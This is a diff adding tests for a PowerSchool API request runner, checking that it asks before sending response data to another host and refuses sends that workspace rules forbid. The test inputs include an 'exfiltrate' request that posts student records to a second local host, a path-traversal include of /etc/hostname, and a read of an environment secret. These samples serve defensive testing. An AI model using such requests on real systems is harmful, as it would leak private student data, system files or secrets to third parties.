@@ -3,7 +3,8 @@ import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { PowerSchoolClient } from '../../../src/core/client';
 import { parsePsreq } from '../../../src/core/psreq';
-import { PsreqRunner, RunError, type RunnerDeps } from '../../../src/core/runner';
+import { PsreqRunner, RunError, SendPolicy, type RunnerDeps, type SendRules } from '../../../src/core/runner';
+import { startOtherHost, type OtherHost } from '../../support/otherHost';
 import { startSandbox, type SandboxHandle } from '../../../src/sandbox';
 
 describe('PsreqRunner against the sandbox', () => {
@@ -137,6 +138,62 @@ describe('PsreqRunner against the sandbox', () => {
     assert.equal(result.request.body, '{ "school_number": 100 }');
     const missing = runnerFor('POST /ws/v1/student\n\n< ./none.json\n', { readFile: async () => { throw Object.assign(new Error('x'), { code: 'ENOENT' }); } });
     await assert.rejects(missing.run(0), /cannot read \.\/none\.json: ENOENT/);
+  });
+
+  describe('sending to another host (issue 13, item 2)', () => {
+    let other: OtherHost;
+    before(async () => (other = await startOtherHost()));
+    after(() => other.close());
+    beforeEach(() => other.arrived.splice(0));
+
+    const exfiltrate = () => `# @name students\nGET /ws/v1/district/student?pagesize=2\n\n###\nPOST ${other.url}/f\nContent-Type: application/json\n\n{{students.response.body.students}}\n`;
+
+    it('asks before data from a response goes to another host; a no sends nothing', async () => {
+      const asked: string[] = [];
+      const runner = runnerFor(exfiltrate(), { confirm: async (reason) => (asked.push(reason), false) });
+      await assert.rejects(runner.run(1), (error: unknown) => error instanceof RunError && error.kind === 'declined');
+      assert.deepEqual(other.arrived, []);
+      assert.equal(asked.length, 1);
+      assert.match(asked[0], /data from the response of 'students' \(read from 'sandbox'\) to 127\.0\.0\.2:\d+/);
+      await assert.rejects(runnerFor(exfiltrate()).run(1), (error: unknown) => error instanceof RunError && error.kind === 'declined', 'no confirmer: not sent');
+      assert.deepEqual(other.arrived, []);
+    });
+
+    it('asks once per host for a session: a yes is remembered, another host asks again', async () => {
+      const asked: string[] = [];
+      const policy = new SendPolicy();
+      const confirm = async (reason: string) => (asked.push(reason), true);
+      await runnerFor(exfiltrate(), { policy, confirm }).run(1);
+      await runnerFor(exfiltrate(), { policy, confirm }).run(1);
+      assert.equal(asked.length, 1, asked.join('\n'));
+      assert.equal(other.arrived.length, 2);
+      assert.match(other.arrived[0], /^POST \/f \{/);
+      // `localhost` is another origin than 127.0.0.1 even on the same port.
+      const sameServerOtherName = sandbox.url.replace('127.0.0.1', 'localhost');
+      await assert.rejects(runnerFor(`# @name s\nGET /ws/v1/district\n\n###\nGET ${sameServerOtherName}/ws/v1/district?x={{s.response.body.district.name}}\n`, { policy, confirm: async (reason) => (asked.push(reason), false) }).run(1), /not sent: .*to localhost:\d+/);
+      assert.equal(asked.length, 2);
+    });
+
+    it('sends response data to the connection and plain requests elsewhere without asking', async () => {
+      const confirm = async () => assert.fail('not asked');
+      const same = await runnerFor('# @name d\nGET /ws/v1/district\n\n###\nGET /ws/v1/district/student/count?x={{d.response.body.district.name}}\n', { confirm }).run(1);
+      assert.equal(same.response.status, 200);
+      await runnerFor(`GET ${other.url}/plain\n`, { confirm }).run(0);
+      assert.equal(other.arrived.length, 1);
+    });
+
+    it('refuses what the rules forbid, with the reason and the remedy, sending nothing', async () => {
+      const rules: SendRules = { connectionOnly: true, noEnvironmentReads: true, includeRoots: ['/work/folder'], remedy: 'Trust it.' };
+      const policy = new SendPolicy(() => rules);
+      await assert.rejects(runnerFor(`GET ${other.url}/x\n`, { policy }).run(0), (error: unknown) => error instanceof RunError && error.kind === 'refused');
+      await assert.rejects(runnerFor(`GET ${other.url}/x\n`, { policy }).run(0), /not sent: 127\.0\.0\.2:\d+ is not the server of the connection 'sandbox', and this workspace is not trusted\. Trust it\.$/);
+      await assert.rejects(runnerFor('@secret = {{$processEnv PS_SECRET}}\nGET /ws/v1/district?s={{secret}}\n', { policy, processEnv: { PS_SECRET: 'x' } }).run(0), /\{\{\$processEnv PS_SECRET\}\} reads this computer's environment.* Trust it\.$/);
+      let read = false;
+      await assert.rejects(runnerFor('POST /ws/v1/student\n\n< ../../etc/hostname\n', { policy, readFile: async () => ((read = true), ''), locateInclude: () => '/etc/hostname' }).run(0), /not sent: the body file \/etc\/hostname is outside \/work\/folder\. Trust it\.$/);
+      assert.equal(read, false, 'the file is not even read');
+      assert.deepEqual(other.arrived, []);
+      assert.equal(requestsSeen(/\/ws\/v1\/district\?s=|\/ws\/v1\/student/).length, 0, seen.join('\n'));
+    });
   });
 
   it('never puts the token or secret in what it returns', async () => {
